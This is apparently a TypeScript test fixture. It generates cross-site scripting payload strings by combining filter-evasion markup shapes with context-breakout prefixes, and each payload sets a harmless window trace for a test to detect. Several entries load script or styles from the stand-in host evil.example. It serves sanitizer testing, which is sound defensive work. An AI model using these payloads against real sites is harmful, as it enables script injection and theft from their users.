/** Strings that mean to become markup or script: each shape of attack in each place that it might be put into. */

/** What would run, in shapes that filters are known to miss. */
const SHAPES: readonly string[] = [
  '<script>RUN</script>',
  '<SCRIPT>RUN</SCRIPT>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=RUN>',
  '<img src="x" onerror="RUN">',
  "<img src='x' onerror='RUN'>",
  '<img/src=x/onerror=RUN>',
  '<img src=x onerror\n=\nRUN>',
  '<svg onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<math><mi//xlink:href="data:x,<script>RUN</script>">',
  '<iframe src="javascript:RUN"></iframe>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<object data="javascript:RUN"></object>',
  '<embed src="javascript:RUN">',
  '<a href="javascript:RUN">click</a>',
  '<a href="java\tscript:RUN">click</a>',
  '<form action="javascript:RUN"><button>go</button></form>',
  '<button formaction="javascript:RUN">go</button>',
  '<details open ontoggle=RUN>',
  '<video><source onerror=RUN></video>',
  '<body onload=RUN>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN>',
  '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(//evil.example/x.png)">',
  '<template><script>RUN</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<!--><img src=x onerror=RUN>-->',
  '<![CDATA[><script>RUN</script>]]>',
  '<xmp><p title="</xmp><script>RUN</script>">',
  '<portal src="javascript:RUN"></portal>',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&#60;script&#62;RUN&#60;/script&#62;',
  '\u003cscript\u003eRUN\u003c/script\u003e',
  '＜script＞RUN＜/script＞',
  '<\0script>RUN</script>',
  'javascript:RUN',
  'data:text/html,<script>RUN</script>',
  '{{constructor.constructor("RUN")()}}',
  '${RUN}',
  '`;RUN;`',
];

/** What might end the place it stands in first. */
const WAYS_OUT: readonly ((shape: string) => string)[] = [
  shape => shape,
  shape => `">${shape}`,
  shape => `'>${shape}`,
  shape => `</textarea>${shape}`,
  shape => `</title></script>${shape}`,
  shape => `--></bdi></p></details>${shape}`,
  shape => `" autofocus onfocus="RUN" x="${shape}`,
];

/** What it would do if it ran: leave a trace that a test sees. */
export const TRACE = 'deedsWasHere';

export const hostileStrings: readonly string[] = WAYS_OUT.flatMap((out, way) =>
  SHAPES.map((shape, index) =>
    out(shape).replaceAll('RUN', `window.${TRACE}=(window.${TRACE}||0)+${way * SHAPES.length + index + 1}`),
  ),
);
